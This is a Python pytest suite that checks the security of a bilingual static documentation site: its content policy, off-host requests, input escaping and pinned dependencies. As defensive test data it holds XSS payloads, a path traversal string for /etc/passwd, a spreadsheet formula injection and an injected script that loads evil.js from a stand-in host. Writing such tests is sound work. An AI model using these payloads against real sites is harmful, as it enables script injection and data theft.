"""Private and safe: what the pages may load, run and keep, and what cannot get into them."""

from __future__ import annotations

import csv
import json
import re
import shutil
import subprocess
import sys
import xml.etree.ElementTree as ElementTree
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
import yaml
from conftest import ROOT
from playwright.sync_api import Browser, Page, expect
from selectolax.lexbor import LexborHTMLParser

from checker.rules import built
from content.model import LOCALES
from tools.serving import serve

LEVER = "levers/responsible-purchasing/"

# Says every breach of the policy on the console, whatever the browser itself would say.
LISTEN = """document.addEventListener("securitypolicyviolation", (event) =>
  console.error(`policy: ${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`))"""


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    context = browser.new_context(
        viewport={"width": 1280, "height": 900}, permissions=["clipboard-read", "clipboard-write"], color_scheme="dark"
    )
    context.add_init_script(LISTEN)
    yield context.new_page()
    context.close()


@pytest.fixture
def faults(page: Page, root: str) -> list[str]:
    """What goes wrong on `page`: console, errors, dialogs, failed requests, requests to another host."""
    found: list[str] = []
    page.on("console", lambda message: found.append(f"{page.url}: {message.type}: {message.text}"))
    page.on("pageerror", lambda error: found.append(f"{page.url}: {error}"))
    page.on("dialog", lambda dialog: found.append(f"{page.url}: dialog {dialog.message}"))
    # Going on to the next page ends what is still under way: that is no failure.
    page.on("requestfailed", lambda r: None if r.failure == "net::ERR_ABORTED" else found.append(f"failed {r.url}"))
    page.on("request", lambda r: None if r.url.startswith(root) else found.append(f"{page.url}: asks {r.url}"))
    return found


def files(site: Path) -> list[str]:
    """The address of every HTML file of the site, redirects and the 404 page with them."""
    return sorted(str(file.relative_to(site)).removesuffix("index.html") for file in site.rglob("*.html"))


def test_every_page_states_the_policy_before_it_loads_anything(site: Path) -> None:
    """Every HTML file has one and the same policy, before its first link or script; no inline script is allowed."""
    policies = set()
    for address in files(site):
        file = site / address / "index.html" if not address.endswith(".html") else site / address
        tree = LexborHTMLParser(file.read_text(encoding="utf-8"))
        assert tree.css("[target]") == [], f"{address}: a link opens a window that could reach back to this one"
        head = tree.css("head > *")
        first = next(i for i, node in enumerate(head) if node.tag in ("link", "script", "style", "noscript"))
        stated = [
            node.attributes["content"] or ""
            for node in head[:first]
            if node.attributes.get("http-equiv") == "Content-Security-Policy"
        ]
        assert len(stated) == 1, address
        policies.add(stated[0])
    assert len(policies) == 1
    policy = dict(directive.split(maxsplit=1) for directive in policies.pop().split("; "))
    assert policy["default-src"] == policy["base-uri"] == policy["form-action"] == "'none'"
    assert {value for name, value in policy.items() if name.endswith("-src")} == {"'none'", "'self'"}


def test_no_page_breaks_the_policy_fails_or_leaves_the_host(
    page: Page, faults: list[str], root: str, site: Path
) -> None:
    """No page, redirects and the 404 page with them, breaks the policy, asks another host, fails or sets a cookie."""
    page.on("response", lambda r: faults.append(f"{page.url}: {r.status} {r.url}") if r.status >= 400 else None)
    for address in files(site):
        page.goto(root + address, wait_until="load")
    assert faults == []
    assert page.context.cookies() == []


@pytest.mark.parametrize("locale", ["en", "fr"])
def test_everything_a_reader_uses_works_under_the_policy(page: Page, faults: list[str], root: str, locale: str) -> None:
    """Search with a filter, finder, map, both languages side by side, definitions, copied address, citation."""
    start = root if locale == "en" else f"{root}fr/"
    page.goto(start)
    page.keyboard.press("/")
    page.get_by_role("searchbox").fill("clause")
    page.locator(".search ol > li > a").first.wait_for()
    page.locator(".narrow select").first.select_option(index=1)
    page.locator(".search ol > li > a").first.wait_for()
    page.goto(f"{start}cases/")
    page.locator(".finder select").first.select_option(index=1)
    page.locator(".map summary").click()
    page.goto(start + LEVER)
    page.locator("a.term").first.focus()
    expect(page.get_by_role("tooltip")).to_be_visible()
    page.locator('.headerlink[href="#social-clauses"]').click()
    expect(page.locator(":has(> #social-clauses) > [role=status]")).to_be_visible()
    page.locator("#cite summary").click()
    page.locator("[data-side]").click()
    page.locator(".pair").first.wait_for()
    page.emulate_media(color_scheme="light")
    page.emulate_media(media="print")
    assert faults == []


# Put in the place of site.js: Chromium allows eval() to what a tester runs, not to a script of the page.
INJECT = """
const host = "https://elsewhere.example";
const broken = new Set();
document.addEventListener("securitypolicyviolation", (event) => broken.add(event.effectiveDirective));
const add = (name, properties) => document.body.append(Object.assign(document.createElement(name), properties));
add("script", { textContent: "window.ran = 'inline'" });
add("script", { src: `${host}/evil.js` });
add("img", { src: `${host}/spy.png` });
add("iframe", { src: `${host}/` });
document.body.insertAdjacentHTML("beforeend", '<p onclick="window.ran = 1" style="color: red">x</p>');
document.body.lastChild.click();
document.head.insertAdjacentHTML("beforeend", `<base href="${host}/"><style>p { color: red }</style>`);
try { eval("window.ran = 'eval'") } catch { broken.add("eval") }
window.broken = Promise.allSettled([
  fetch(`${host}/`),
  WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).catch(() => broken.add("wasm")),
  new Promise((resolve) => setTimeout(resolve, 300)),
]).then(() => [...broken]);
"""


@pytest.mark.parametrize("path", ["", "fr/cases/", "no/such/page/", "l/5/"])
def test_the_policy_stops_what_is_injected(page: Page, root: str, path: str) -> None:
    """If markup got into a page all the same, its scripts, handlers, styles, frames and requests do nothing."""
    page.route(
        re.compile("assets/(site|redirect).js"), lambda r: r.fulfill(body=INJECT, content_type="text/javascript")
    )
    page.goto(root + path)
    broken = page.evaluate("window.broken")
    assert page.evaluate("window.ran") is None
    assert set(broken) == {
        "script-src", "script-src-elem", "script-src-attr", "eval", "wasm", "style-src-elem", "style-src-attr",
        "img-src", "frame-src", "connect-src", "base-uri",
    }  # fmt: skip


HOSTILE = [
    "<img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>',
    "javascript:alert(1)",
    "__proto__",
    "constructor",
    "%E0%A4%A",
    "%00",
    "../../../etc/passwd",
    "//elsewhere.example/",
    "x" * 8000,
]


@pytest.mark.parametrize("value", HOSTILE, ids=lambda value: value[:20])
def test_nothing_in_the_address_gets_into_the_page(page: Page, faults: list[str], root: str, value: str) -> None:
    """Whatever stands in the query or after the #, raw or encoded: no error, no markup, no way off the site."""
    for path in ("fr/cases/", LEVER, "l/5/", "no/such/page/"):
        for text in (quote(value, safe="%"), value.replace("#", "")):
            page.goto(f"{root}{path}?side&lever={text}&q={text}#{text}")
            switch = page.locator("a[data-switch]")
            if switch.count():
                switch.focus()
                assert (switch.evaluate("link => link.href")).startswith(root)
            assert page.locator("img[src=x], main script, dialog script, iframe").count() == 0
    page.goto(f"{root}fr/")
    page.keyboard.press("/")
    page.get_by_role("searchbox").fill(value)
    expect(page.locator(".search .said")).to_contain_text(re.compile("page|résultat"))
    assert page.locator(".search :is(img, script)").count() == 0
    assert [fault for fault in faults if "404 (Not Found)" not in fault] == []


# What a title, a name or a source could hold by mistake or malice: ends of strings, tags, formulas, BibTeX, Markdown.
NASTY = (
    """=cmd|'/C calc'!A0 "b"> </title></script><script>alert(1)</script><img src=x onerror=alert(1)> """
    r"& {d} }e{ \f $ % # _ ](x)"
)
CASE, SOURCE, PLACE = "cases/roubaix-zero-waste", "labecedaire-2021-roubaix", "metropole-de-lyon"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The project with NASTY as the title of a case and of a lever, of a source, a territory, a term, a change."""
    root = tmp_path_factory.mktemp("hostile")
    for name in ("docs", "data", "overrides", "scripts"):
        shutil.copytree(ROOT / name, root / name, ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copy(ROOT / "mkdocs.yml", root)
    for locale in LOCALES:
        for path in (CASE, LEVER.strip("/")):
            file = root / "docs" / locale / f"{path}.md"
            lines = file.read_text(encoding="utf-8").split("\n")
            for i in (1, 2):
                lines[i] = f"{lines[i].split(':')[0]}: {json.dumps(NASTY)}"
            file.write_text("\n".join(lines), encoding="utf-8")

    def edit(table: str, id: str, **values: Any) -> None:
        file = root / "data" / f"{table}.yml"
        records = yaml.safe_load(file.read_text(encoding="utf-8"))
        next(record for record in records if record["id"] == id).update(values)
        file.write_text(yaml.safe_dump(records, allow_unicode=True), encoding="utf-8")

    both = dict.fromkeys(LOCALES, NASTY)
    edit("sources", SOURCE, title=NASTY, publisher=NASTY)
    edit("territories", PLACE, name=both)
    edit("glossary", "action-lever", definition=both)
    edit("changes", "first-publication", text=both)
    done = subprocess.run(
        [sys.executable, "-m", "mkdocs", "build", "--strict"], cwd=root, capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stderr[-5000:]
    return root


def test_what_the_content_says_stays_text_on_every_page(hostile: Path) -> None:
    """No page of the hostile site holds an inline script, a handler or a foreign file; the titles read as written."""
    assert [finding for finding in built.check(hostile) if finding.code in ("X007", "X016")] == []
    for address in ("l/5", CASE, LEVER, f"fr/{CASE}", f"territories/{PLACE}"):
        tree = LexborHTMLParser((hostile / "site" / address / "index.html").read_text(encoding="utf-8"))
        assert [node.text() for node in tree.css("h1, main p > a") if node.text() == NASTY], address
    tree = LexborHTMLParser((hostile / "site" / CASE / "index.html").read_text(encoding="utf-8"))
    for selector in ('[name="description"]', '[property="og:title"]', '[name="citation_title"]'):
        node = tree.css_first(f"meta{selector}")
        assert node is not None
        assert node.attributes["content"] == NASTY
    data = tree.css_first('script[type="application/ld+json"]')
    assert data is not None
    assert json.loads(data.text())["@graph"][0]["headline"] == NASTY


def test_what_the_content_says_stays_text_in_what_is_reused(hostile: Path) -> None:
    """Feed, lists, tables and records carry a nasty title whole, and no spreadsheet takes it for a formula."""
    site = hostile / "site"
    feed = ElementTree.parse(site / "feed.xml").getroot()
    assert NASTY in [node.text for node in feed.iter("{http://www.w3.org/2005/Atom}title")]
    for name in ("cases", "territories", "sources"):
        rows = list(csv.reader((site / "data" / f"{name}.csv").read_text(encoding="utf-8-sig").splitlines()))
        assert any(f"'{NASTY}" in row for row in rows)
        assert not [cell for row in rows for cell in row if re.match(r"[=+@\t\r]|-(?![\d.]+$)", cell)]
    records = [(site / "data/sources.bib").read_text(encoding="utf-8")]
    tree = LexborHTMLParser((site / CASE / "index.html").read_text(encoding="utf-8"))
    records += [node.text() for node in tree.css(".cite pre") if node.text().startswith("@")]
    assert len(records) == 2
    for record in records:
        assert record.count("{") == record.count("}")
        assert not re.search(r"(?<!\\)[&%#_$]", re.sub(r"\b(url|langid|urldate) = .*|@misc.*", "", record))
    listed = re.findall(
        r"^- \[((?:[^\]\\]|\\.)*)\]\(([^)]+)\): ", (site / "llms.txt").read_text(encoding="utf-8"), re.M
    )
    assert f"{CASE}.md" in dict(listed).values()
    assert all((site / path).exists() for _, path in listed)


def test_nothing_the_content_says_runs_in_the_browser(page: Page, hostile: Path) -> None:
    """Search results, finder, definitions and both languages side by side show a nasty title as text, no more."""
    server, root = serve(hostile / "site")
    found: list[str] = []
    page.on("console", lambda message: found.append(message.text))
    page.on("pageerror", lambda error: found.append(str(error)))
    page.on("dialog", lambda dialog: found.append(dialog.message))
    page.goto(f"{root}{CASE}/?side")
    page.locator(".pair").first.wait_for()
    page.keyboard.press("/")
    page.get_by_role("searchbox").fill("onerror")
    page.locator(".search ol > li > a").first.wait_for()
    expect(page.locator(".search strong").first).to_contain_text("<img src=x onerror=alert(1)>")
    page.goto(f"{root}cases/")
    page.locator(".finder select").first.select_option(index=2)
    page.goto(f"{root}{LEVER}")
    server.shutdown()
    assert found == []


def test_every_locked_dependency_has_its_licence_listed() -> None:
    """LICENSES.md names every package that requirements.lock installs everywhere, and nothing that it does not lock."""
    lock = (ROOT / "requirements.lock").read_text(encoding="utf-8")
    pins = re.findall(r"^([a-z0-9._-]+)==\S+ (;)?", lock, re.MULTILINE)
    rows = (ROOT / "LICENSES.md").read_text(encoding="utf-8").splitlines()[2:]
    listed = {re.sub(r"[._-]+", "-", row.split("|")[1].strip().lower()) for row in rows}
    assert {name for name, condition in pins if not condition} <= listed <= {name for name, _ in pins}


def test_the_lock_file_pins_everything_with_hashes_and_names_no_index() -> None:
    """Every line of the lock file is a version with its hashes; no address of an index stands in it."""
    lock = (ROOT / "requirements.lock").read_text(encoding="utf-8").replace("\\\n", "")
    lines = [line for line in lock.splitlines() if line.strip()]
    assert all(re.match(r"[a-z0-9._-]+==\S+ .*--hash=sha256:[0-9a-f]{64}", line) for line in lines)
    assert "://" not in lock


def test_workflows_pin_their_actions_and_ask_for_little() -> None:
    """Every action is pinned by a full commit hash; a workflow's own permissions are to read, or none."""
    for file in sorted((ROOT / ".github/workflows").glob("*.yml")):
        text = file.read_text(encoding="utf-8")
        assert re.findall(r"uses: *(\S+)", text) == re.findall(r"uses: *([\w./-]+@[0-9a-f]{40})(?= )", text), file.name
        assert yaml.safe_load(text)["permissions"] in ({}, {"contents": "read"}), file.name
